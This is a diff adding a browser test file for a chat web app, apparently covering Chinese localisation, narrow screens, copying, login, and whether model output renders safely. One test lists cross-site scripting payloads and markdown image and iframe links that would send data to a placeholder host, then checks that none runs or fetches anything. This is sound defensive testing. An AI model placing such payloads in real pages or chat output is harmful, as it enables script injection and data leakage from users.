@@ -1,0 +1,119 @@
+"""Languages, narrow screens, the login, and text that would like to be more than text."""
+
+from __future__ import annotations
+
+import pytest
+from playwright.async_api import Browser, Request, expect
+
+from qwen_app.engine.scripted import Script, ScriptedEngine
+from tests.browser.chat_page import ChatPage
+from tests.browser.conftest import OpenChat
+from tests.browser.serving import running_page
+
+pytestmark = pytest.mark.anyio
+
+
+@pytest.mark.parametrize("locale", ["zh-CN", "zh", "zh-Hans-CN", "zh-TW"])
+async def test_a_chinese_browser_gets_a_chinese_page(scripted: str, open_chat: OpenChat, locale: str) -> None:
+    chat = await open_chat(scripted, locale=locale)
+    await expect(chat.page.locator("#new-chat")).to_have_text("新对话")
+    await expect(chat.composer).to_have_attribute("placeholder", "想问点什么？")
+    await expect(chat.page.locator("#ai-notice")).to_contain_text("仅供参考")
+    await expect(chat.meter).to_contain_text("个词元")
+    await expect(chat.page.locator("html")).to_have_attribute("lang", "zh-CN")
+
+
+async def test_chinese_answers_and_errors(scripted: str, open_chat: OpenChat) -> None:
+    chat = await open_chat(scripted, locale="zh-CN")
+    await expect(chat.page.locator("#new-chat")).to_have_text("新对话")
+    answer = await chat.ask("please break")
+    await expect(answer.locator(".run-error")).to_contain_text("已生成的内容已保留")
+    await expect(answer.locator(".run-line")).to_contain_text("失败")
+
+
+async def test_switching_keeps_the_chat_and_is_remembered(scripted: str, open_chat: OpenChat) -> None:
+    chat = await open_chat(scripted)
+    await chat.ask("hello")
+    await chat.page.locator("#language").get_by_text("中文").click()
+    await expect(chat.page.locator("#new-chat")).to_have_text("新对话")
+    await expect(chat.runs.first).to_contain_text("已完成")
+    await expect(chat.answers.first).to_contain_text("You said: hello")
+    await chat.page.reload()
+    await expect(chat.page.locator("#new-chat")).to_have_text("新对话")
+
+
+async def test_narrow_screens_scroll_one_way_only(scripted: str, open_chat: OpenChat) -> None:
+    chat = await open_chat(scripted, viewport={"width": 390, "height": 844}, has_touch=True)
+    await chat.ask("say: " + "longwordwithoutspaces" * 10 + "\n\n```\n" + "code " * 60 + "\n```")
+    assert await chat.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+    panel = chat.page.locator("#settings-panel")
+    await expect(panel).not_to_be_visible()
+    await chat.page.locator("#toggle-settings").click()
+    await expect(panel).to_be_in_viewport()
+    await chat.page.locator("#close-settings").click()
+    await expect(panel).not_to_be_visible()
+
+
+HOSTILE = [
+    "<img src=x onerror=\"document.body.dataset.hit='1'\">",
+    "<script>document.body.dataset.hit='1'</script>",
+    '<svg onload="document.body.dataset.hit=1"></svg>',
+    "<style>body{display:none}</style>",
+    "[click](javascript:document.body.dataset.hit=1)",
+    "![leak](http://leak.invalid/?q=secret)",
+    "![leak][1]\n\n[1]: http://leak.invalid/2",
+    "```mermaid\ngraph TD; A[<img src=http://leak.invalid/3>]-->B\n```",
+    "$$\\href{javascript:document.body.dataset.hit=1}{x}$$",
+    '<iframe src="http://leak.invalid/4"></iframe>',
+    "    ```\n![leak](http://leak.invalid/5)\n    ```",
+    "\\`![leak](http://leak.invalid/6)\\`",
+]
+
+
+async def test_hostile_text_runs_nothing_and_fetches_nothing(browser: Browser) -> None:
+    outside: list[str] = []
+
+    def note(request: Request) -> None:
+        if "127.0.0.1" not in request.url and not request.url.startswith(("data:", "blob:")):
+            outside.append(request.url)
+
+    engine = ScriptedEngine(Script(text=["Text first.\n\n" + "\n\n".join(HOSTILE)]))
+    with running_page(engine) as url:
+        context = await browser.new_context()
+        page = await context.new_page()
+        page.on("request", note)
+        chat = await ChatPage(page).open(url)
+        answer = await chat.ask("\n\n".join(HOSTILE))
+        await expect(answer).to_contain_text("<script>")
+        await expect(answer.locator("img, svg[id^=mermaid], iframe, style, script")).to_have_count(0)
+        assert await page.evaluate("document.body.dataset.hit") is None
+        await context.close()
+    assert outside == []
+
+
+async def test_copying_gives_what_was_written(scripted: str, open_chat: OpenChat) -> None:
+    chat = await open_chat(scripted, permissions=["clipboard-read", "clipboard-write"])
+    answer = await chat.ask("say: Use <b> for bold.")
+    await expect(answer).to_contain_text("for bold")
+    await chat.button("Copy message")
+    assert await chat.page.evaluate("navigator.clipboard.readText()") == "Use <b> for bold."
+
+
+async def test_the_login_lets_in_who_knows_the_password(browser: Browser) -> None:
+    engine = ScriptedEngine()
+    with running_page(engine, auth="ada:secret") as url:
+        context = await browser.new_context()
+        page = await context.new_page()
+        await page.goto(url)
+        await page.get_by_label("Name").fill("ada")
+        await page.get_by_label("Password").fill("wrong")
+        await page.get_by_role("button").click()
+        await expect(page.get_by_role("alert")).to_contain_text("Wrong name or password")
+        await page.get_by_label("Name").fill("ada")
+        await page.get_by_label("Password").fill("secret")
+        await page.get_by_role("button").click()
+        chat = ChatPage(page)
+        await expect(chat.meter).not_to_be_empty()
+        await chat.ask("hello")
+        assert engine.requests[-1].user == "ada"
+        await context.close()
